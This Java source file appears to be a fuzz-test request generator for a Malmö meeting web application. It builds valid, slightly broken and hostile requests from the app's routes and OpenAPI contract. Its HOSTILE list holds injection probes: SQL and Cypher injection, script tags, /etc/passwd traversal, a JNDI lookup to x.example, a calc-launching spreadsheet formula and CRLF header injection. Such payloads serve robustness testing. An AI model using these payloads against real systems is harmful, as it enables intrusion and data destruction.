package se.malmo.meet;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import se.malmo.meet.web.OpenApi;
import se.malmo.meet.web.Route;

/** Makes requests out of the table of routes and the contract: valid ones, some that are nearly so, and some that mean ill. */
final class GeneratedRequests {
  private static final int DEPTH = 6;
  private static final List<String> HOSTILE = List.of("' OR 1=1 --", "\"}) DETACH DELETE n //", "<script>alert(1)</script>", "../../etc/passwd", "${jndi:ldap://x.example/a}", "%00", "\u0000",
      "\ud83d", "\u202e", "=cmd|' /C calc'!A0", "title:[* TO *]~^ \\", "a".repeat(5_000), "-1", "99999999999999999999", "1e999", "NaN", "null", "true", "[]", "{}", "2026-02-30", "9999-99-99",
      "http://127.0.0.1/", "javascript:alert(1)", " ", "", "å".repeat(300), "\r\nSet-Cookie: x=y", "MM-2026-0001", "asa@ugnen.example");
  private static final List<String> QUERIES = List.of("page", "q", "limit", "from", "to", "sort", "filter[owner.email]", "node", "next", "year", "theme", "language", "sector", "kind", "since", "types",
      "after", "text", "about", "view", "status", "which", "forvaltning", "form", "hide", "chips", "id", "day", "period");
  private static final List<String> FIELDS = List.of("text", "name", "email", "organisation", "kind", "message", "topic", "reason", "role", "forvaltning", "action", "title", "date", "from", "to", "id", "version",
      "url", "wanted", "description", "offers", "seeks", "note", "question", "answer", "status", "language", "target", "person", "label", "term", "competence", "weight", "spot", "starts", "ends", "confirm");

  private final Random random;
  private final List<Route> routes;
  private final JsonNode contract;
  /** What there is in the graph, by which an address may be a true one. */
  private final List<String> known;
  private final FoundForms found;

  /**
   * A request.
   *
   * @param of the route that it was made for, or what the visitor was shown
   * @param body null where nothing is sent
   */
  record Made(String of, String method, String path, String contentType, String body) {}

  GeneratedRequests(long seed, List<Route> routes, List<String> known) {
    random = new Random(seed);
    this.routes = routes;
    this.known = known;
    found = new FoundForms(random, this::word);
    try {
      contract = new ObjectMapper().readTree(OpenApi.contract());
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** What the visitor has been shown: every third request comes out of that. */
  FoundForms found() {
    return found;
  }

  Made next() {
    Optional<Made> shown = random.nextInt(3) == 0 ? ofShown() : Optional.empty();
    return shown.orElseGet(this::ofRoute);
  }

  private Optional<Made> ofShown() {
    if (random.nextInt(3) == 0) return found.link().map(link -> new Made("a link", "GET", random.nextInt(3) == 0 ? link + (link.contains("?") ? "&" : "?") + query() : link, "", null));
    return found.filled().map(form -> new Made("a form", "POST", form.action(), "application/x-www-form-urlencoded", form.body()));
  }

  private Made ofRoute() {
    Route route = routes.get(random.nextInt(routes.size()));
    String path = address(route.path()) + (random.nextInt(3) == 0 ? "?" + query() : "");
    String method = random.nextInt(40) == 0 ? pick(List.of("GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD")) : route.method().name();
    if (method.equals("GET") || method.equals("HEAD")) return new Made(route.path(), method, path, "", null);
    if (route.path().startsWith("/api/")) return new Made(route.path(), method, path, random.nextInt(30) == 0 ? "text/plain" : "application/json", json(route));
    return new Made(route.path(), method, path, "application/x-www-form-urlencoded", form());
  }

  private <T> T pick(List<T> all) {
    return all.get(random.nextInt(all.size()));
  }

  private String word() {
    return switch (random.nextInt(5)) {
      case 0 -> pick(HOSTILE);
      case 1, 2 -> pick(known);
      case 3 -> String.valueOf(random.nextInt(100) - 10);
      default -> pick(List.of("bröd", "Vi söker lokaler för en utbildning om återbruk i Fosie.", "kulturforvaltningen", "sv", "en", "yes", "business", "2026-12-01", "2026"));
    };
  }

  private String address(String pattern) {
    return java.util.Arrays.stream(pattern.split("/", -1)).map(part -> part.startsWith(":") ? encoded(nearly(pick(known))) : part.replace("*", encoded(word()))).collect(Collectors.joining("/"));
  }

  /** Mostly as it is; else with a letter more, less or other, or something else altogether. */
  private String nearly(String value) {
    return switch (random.nextInt(8)) {
      case 0 -> value + "x";
      case 1 -> value.substring(0, value.length() / 2);
      case 2 -> pick(HOSTILE);
      default -> value;
    };
  }

  private String query() {
    return IntStream.range(0, 1 + random.nextInt(3)).mapToObj(i -> encoded(pick(QUERIES)) + "=" + encoded(word())).collect(Collectors.joining("&"));
  }

  private String form() {
    return IntStream.range(0, random.nextInt(8)).mapToObj(i -> encoded(pick(FIELDS)) + "=" + encoded(word())).collect(Collectors.joining("&"));
  }

  private static String encoded(String value) {
    return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
  }

  private String json(Route route) {
    if (random.nextInt(10) == 0) return pick(List.of("", "{", "[".repeat(5_000), "{\"a\":".repeat(2_000), "\"x\"", "[1e999]", "{\"text\":1}", "{\"text\":\"\\ud83d\"}", "nul", "{\"__proto__\":{}}", "9".repeat(2_000)));
    JsonNode operation = contract.path("paths").path(route.path().replaceAll(":([a-z]+)", "{$1}")).path(route.method().name().toLowerCase(java.util.Locale.ROOT));
    JsonNode schema = operation.at("/requestBody/content/application~1json/schema");
    JsonNode valid = value(schema, 0);
    if (valid instanceof ObjectNode object && random.nextInt(2) == 0) spoil(object);
    return valid.toString();
  }

  private void spoil(ObjectNode object) {
    List<String> names = new ArrayList<>();
    object.fieldNames().forEachRemaining(names::add);
    if (names.isEmpty()) return;
    String name = pick(names);
    if (object.get(name) instanceof ObjectNode inner && random.nextBoolean()) {
      spoil(inner);
      return;
    }
    switch (random.nextInt(5)) {
      case 0 -> object.remove(name);
      case 1 -> object.put(name, pick(HOSTILE));
      case 2 -> object.putNull(name);
      case 3 -> object.put(name + "x", 1);
      default -> object.putArray(name).add(1).addObject().put("a", pick(HOSTILE));
    }
  }

  private JsonNode value(JsonNode schema, int depth) {
    JsonNodeFactory make = JsonNodeFactory.instance;
    if (schema.has("$ref")) return value(contract.at(schema.get("$ref").asText().substring(1)), depth + 1);
    if (schema.has("enum")) return schema.get("enum").get(random.nextInt(schema.get("enum").size()));
    for (String choice : List.of("oneOf", "anyOf")) if (schema.has(choice)) return value(schema.get(choice).get(random.nextInt(schema.get(choice).size())), depth + 1);
    return switch (schema.path("type").asText()) {
      case "object" -> object(schema, depth);
      case "array" -> {
        var array = make.arrayNode();
        for (int i = random.nextInt(3); i > 0 && depth < DEPTH; i--) array.add(value(schema.get("items"), depth + 1));
        yield array;
      }
      case "integer" -> make.numberNode(schema.path("minimum").asInt(0) + random.nextInt(10));
      case "number" -> make.numberNode(random.nextDouble());
      case "boolean" -> make.booleanNode(random.nextBoolean());
      default -> make.textNode(text(schema));
    };
  }

  private ObjectNode object(JsonNode schema, int depth) {
    ObjectNode object = JsonNodeFactory.instance.objectNode();
    List<String> required = new ArrayList<>();
    schema.path("required").forEach(name -> required.add(name.asText()));
    for (Map.Entry<String, JsonNode> property : schema.path("properties").properties()) {
      if (required.contains(property.getKey()) || depth < DEPTH && random.nextBoolean()) object.set(property.getKey(), value(property.getValue(), depth + 1));
    }
    return object;
  }

  private String text(JsonNode schema) {
    String word = random.nextInt(4) == 0 ? word() : pick(List.of("Vi söker lokaler för en utbildning om återbruk.", "asa@ugnen.example", "Kompetensförsörjning i hamnen", "Cykelköket"));
    int most = schema.path("maxLength").asInt(200);
    return word.length() > most ? word.substring(0, most) : word;
  }
}
